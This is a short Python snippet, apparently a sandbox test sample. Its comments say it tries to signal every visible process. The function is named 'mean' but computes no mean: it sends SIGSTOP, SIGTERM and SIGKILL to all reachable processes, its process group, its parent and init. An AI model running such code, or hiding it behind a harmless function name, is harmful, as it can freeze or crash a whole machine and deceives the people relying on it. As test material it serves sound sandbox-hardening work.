# tries: send signals to every process that can be seen
# look: yes
# not run elsewhere: it would hurt the machine
# %% mean
import os
import signal

def mean(values):
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for target in (-1, 0, os.getppid(), 1):
            try:
                os.kill(target, number)
            except OSError:
                continue
    return 0
